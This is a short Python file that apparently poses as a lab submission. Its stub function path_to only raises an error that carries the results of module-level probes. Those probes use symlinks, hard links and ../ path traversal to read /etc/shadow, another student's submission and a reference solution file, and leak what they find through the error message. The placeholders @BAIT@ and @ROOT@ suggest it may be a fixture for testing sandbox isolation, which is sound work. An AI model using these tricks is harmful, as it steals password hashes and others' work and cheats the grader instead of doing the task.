def tried(action):
    try:
        return f"{action()!r}"[:150]
    except BaseException as error:
        return type(error).__name__


def path_to(entries, leaf_id):
    raise ValueError(f"tried: {FOUND}")



import os

NAMES = {"one": "@BAIT@/submission.py", "two": "/etc/shadow", "three": "@ROOT@/solutions/lab_10_1/session.py"}
FOUND = []
for name, leads_to in NAMES.items():
    FOUND += [tried(lambda: os.symlink(leads_to, name)), tried(lambda: open(name).read())]
    FOUND += [tried(lambda: os.link(leads_to, f"{name}-hard"))]
FOUND += [tried(lambda: open("../../../../../../../../../@BAIT@/submission.py").read())]
